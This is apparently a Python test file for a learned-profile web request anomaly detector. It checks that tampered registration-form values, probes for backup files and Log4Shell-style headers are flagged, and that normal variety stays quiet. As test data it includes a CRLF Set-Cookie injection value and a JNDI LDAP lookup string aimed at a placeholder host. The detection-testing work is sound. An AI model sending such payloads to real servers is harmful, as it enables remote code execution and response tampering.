"""Tampering with no attack syntax: each class of issue 10 on a learned form route.

A registration form (fixed parameter set, a fixed-value button, numeric, e-mail and
name fields) and a search box are learned from varied normal requests; each class
of tampering must then be flagged with a reason saying what was expected, and
benign variety (new names, prose punctuation) must stay under the threshold.
"""

from __future__ import annotations

import random
from urllib.parse import quote_plus

import pytest

from detector.analysis.analyzer import RequestAnalyzer
from detector.analysis.profiles import ProfileStore
from detector.events import AccessEvent
from detector.routes.templater import RouteTemplater

NAMES = ["ana", "luis", "marta", "jorge", "lucia", "pablo", "elena", "diego", "sara", "ivan",
         "nuria", "raul", "irene", "oscar", "paula", "hugo", "clara", "mario", "alba", "dario"]
WORDS = ["red", "shoes", "lego", "tent", "drill", "kids", "raincoat", "usb", "cable", "lamp",
         "desk", "chair", "switch", "games", "board", "puzzle", "bike", "helmet", "socks", "hat"]


def _form(rng: random.Random) -> str:
    first, last = rng.choice(NAMES), rng.choice(NAMES)
    pairs = [("name", first), ("surname", last),
             ("email", f"{first}.{last}{rng.randint(1, 999)}@mail{rng.randint(1, 9)}.com"),
             ("age", str(rng.randint(18, 90))), ("zip", f"{rng.randint(1000, 52999):05d}"),
             ("B1", "Register now")]
    return "&".join(f"{k}={quote_plus(v)}" for k, v in pairs)


def ev(method: str, path: str, query: str = "", body: str | None = None, i: int = 0,
       status: int | None = 200) -> AccessEvent:
    return AccessEvent(1773738000.0 + i, "shop", None, method, path, query, status, 0.01, 100,
                       "198.51.100.7", "Mozilla/5.0", body, None, "t", i)


@pytest.fixture(scope="module")
def analyzer() -> RequestAnalyzer:
    rng = random.Random(4)
    a = RequestAnalyzer(profiles=ProfileStore(min_history=50), templater=RouteTemplater())
    for i in range(3000):
        k = i % 3
        if k == 0:
            e = ev("POST", "/app/register", body=_form(rng), i=i)
        elif k == 1:
            q = "+".join(rng.sample(WORDS, rng.randint(1, 3)))
            e = ev("GET", "/search", f"q={q}", i=i)
        else:
            e = ev("GET", f"/app/{rng.choice(['index', 'about', 'cart'])}.jsp", i=i)
        a.learn(e, a.templater.template(e.service, e.path))  # type: ignore[union-attr]
    return a


def verdict(a: RequestAnalyzer, e: AccessEvent) -> tuple[float, list[str]]:
    route = a.templater.template(e.service, e.path)  # type: ignore[union-attr]
    v = a.verdict(e, route)
    return v["score"], v["reasons"]


def tampered(field: str, value: str) -> str:
    body = _form(random.Random(99))
    pairs = [p.split("=", 1) for p in body.split("&")]
    return "&".join(f"{k}={value if k == field else v}" for k, v in pairs)


def test_normal_variety_is_quiet(analyzer: RequestAnalyzer) -> None:
    rng = random.Random(5)
    flagged = [verdict(analyzer, ev("POST", "/app/register", body=_form(rng)))[0] >= 0.5
               for _ in range(300)]
    assert sum(flagged) == 0
    # prose punctuation in a search box: a hint at most, never a finding on its own
    for q in ("node.js", "o%27reilly+books", "100%25+cotton", "c%2B%2B+primer"):
        assert verdict(analyzer, ev("GET", "/search", f"q={q}"))[0] < 0.5, q


@pytest.mark.parametrize(("field", "value", "reason"), [
    ("age", "33%00", "age: text where int lives"),
    ("age", "33%2F", "age: text where int lives"),
    ("age", "3a3", "age: "),
    ("email", "ana%40x%40mail.com", "email: text where email lives"),
    ("name", "ana%27", "name: character ' never seen"),
    ("B1", "Register+nowA", "B1: value outside its 1 known values ('Register now')"),
    ("zip", "0" * 600, "zip: length 600"),
    ("surname", "abc%0D%0ASet-Cookie%3A+x%3D1", "surname: "),
])
def test_tampered_values(analyzer: RequestAnalyzer, field: str, value: str, reason: str) -> None:
    s, why = verdict(analyzer, ev("POST", "/app/register", body=tampered(field, value)))
    assert s >= 0.5 and any(r.startswith(reason) for r in why), why


def test_unknown_and_misspelt_names(analyzer: RequestAnalyzer) -> None:
    body = _form(random.Random(99)).replace("name=", "nameA=", 1)
    s, why = verdict(analyzer, ev("POST", "/app/register", body=body))
    assert s >= 0.5
    assert any(r.startswith("unknown parameter nameA: never seen on POST /app/register in "
                            "1,000 requests; known: ") for r in why), why


def test_missing_and_duplicated_parameters(analyzer: RequestAnalyzer) -> None:
    body = "&".join(p for p in _form(random.Random(99)).split("&") if not p.startswith("zip="))
    s, why = verdict(analyzer, ev("POST", "/app/register", body=body))
    assert s >= 0.5 and why == ["missing parameter zip (carried by 1,000 of 1,000 requests)"]
    s, why = verdict(analyzer, ev("POST", "/app/register", body=_form(random.Random(9)) + "&age=3"))
    assert s >= 0.5 and why[0].startswith("parameter age given twice (repeated in 0 of 1,000")
    # a search without its query string, on a route whose requests all carry one
    s, why = verdict(analyzer, ev("GET", "/search"))
    assert s >= 0.5 and why == ["missing parameter q (carried by 1,000 of 1,000 requests)"]


def test_method_and_resources(analyzer: RequestAnalyzer) -> None:
    s, why = verdict(analyzer, ev("PUT", "/app/register", body=_form(random.Random(9))))
    assert s >= 0.5 and why[0].startswith("method PUT never seen on /app/register")
    for path, reason in (("/app/index.jsp.orig", "backup suffix .orig on a known file"),
                         ("/app/index.jsp~", "on a known file"),
                         ("/app/;jsessionid=0123456789ABCDEF0123456789ABCDEF", "session id"),
                         ("/iisstart.htm", "default sample file of another server")):
        s, why = verdict(analyzer, ev("GET", path))
        # signatures know some probes (an attack_payload then); the resource model all
        assert s >= 0.5 and (reason in why[0] or why[0].startswith("sensitive_file")), (path, why)
        route = analyzer.templater.template("shop", path)  # type: ignore[union-attr]
        found = analyzer.profiles.resources.assess("shop", "GET", route, path, 200)
        assert found and reason in found[0][2], (path, found)
    # an unknown resource with no probe shape: only where no response is known
    assert verdict(analyzer, ev("GET", "/app/other.jsp", status=404))[0] < 0.5
    s, why = verdict(analyzer, ev("GET", "/app/other.jsp", status=None))
    assert s >= 0.5 and "not in the learned tree" in why[0]


def test_a_bodiless_request_on_a_body_route_is_the_log_not_the_client() -> None:
    p = ProfileStore(min_history=50)
    for i in range(400):
        p.learn("s", "POST", "/login", [("user", f"u{i}", "str"), ("pw", "x" * 8, "str")],
                "form")
    assert p.assess("s", "POST", "/login", [], "none").score == 0.0
    assert p.assess("s", "POST", "/login", [("user", "u1", "str")], "form").score >= 0.5


def test_route_calibration_tempers_what_the_route_does_every_day() -> None:
    p = ProfileStore(min_history=50)
    for i in range(600):
        p.learn("s", "GET", "/r", [("q", f"w{i % 7}", "str")])
    raw = p.assess("s", "GET", "/r", [("q", "w1", "str"), ("zz", "1", "str")])
    assert raw.score == raw.raw >= 0.5  # no calibration yet
    for _ in range(300):  # the route's normal requests score that high 1 time in 3
        p.calibrate("s", "GET", "/r", raw.raw if _ % 3 == 0 else 0.0)
    tempered = p.assess("s", "GET", "/r", [("q", "w1", "str"), ("zz", "1", "str")])
    assert tempered.raw == raw.raw and tempered.score < 0.5
    card = p.calibration_card()
    assert card["routes_calibrated"] == 1 and card["scored_requests"] == 300


def test_profile_state_version_1_still_loads() -> None:
    import orjson

    p = ProfileStore(min_history=50)
    for i in range(100):
        p.learn("s", "GET", "/r", [("q", f"w{i}", "str")])
    doc = orjson.loads(p.save_state())
    doc["version"] = 1
    for r in doc["routes"]:
        for k in ("bodies", "cal", "scored"):
            del r[k]
        for st in r["params"].values():
            for k in ("cmask", "gmask", "late", "tlate", "new_chars", "ng_hist", "enum_new",
                      "dups"):
                del st[k]
    del doc["resources"], doc["headers"]
    old = ProfileStore.load_state(orjson.dumps(doc))
    assert old.history("s", "GET", "/r") == 100
    assert old.assess("s", "GET", "/r", [("q", "w1", "str")]).score == 0.0


def test_a_frozen_templater_learns_nothing() -> None:
    t = RouteTemplater()
    for p in ("/app/login", "/app/register"):
        t.template("s", p)
    t.frozen = True
    for i in range(200):  # a burst of probes under /app/ would collapse it when learning
        t.template("s", f"/app/probe{i}.bak")
    assert t.template("s", "/app/login") == "/app/login" and t.generation == 0
    assert t.template("s", "/app/probe7.bak") == "/app/probe7.bak"


def test_request_headers_are_analysed_like_the_user_agent() -> None:
    a = RequestAnalyzer(learn_online=True)
    base = (("accept", "application/json"), ("x-api-version", "2.1"))
    evs = [ev("GET", "/v1/items", i=i)._replace(headers=base) for i in range(400)]
    assert a.analyze_many(evs, ["/v1/items"] * 400) == [None] * 400
    jndi = (("accept", "application/json"), ("x-api-version", "${jndi:ldap://x.example/a}"))
    f = a.analyze(ev("GET", "/v1/items")._replace(headers=jndi), "/v1/items")
    assert f is not None and f.kind == "attack_payload" and "log4shell" in f.attack_types
    assert any("header:x-api-version" in r for r in f.reasons)
    long = (("accept", "application/json"), ("x-api-version", "2." + "9" * 400))
    f = a.analyze(ev("GET", "/v1/items")._replace(headers=long), "/v1/items")
    assert f is not None and f.kind == "unusual_payload" and f.score >= 0.5
    assert f.reasons[0].startswith("header x-api-version: length 402")
    assert ("header", f.parts[0][1]) == f.parts[0]
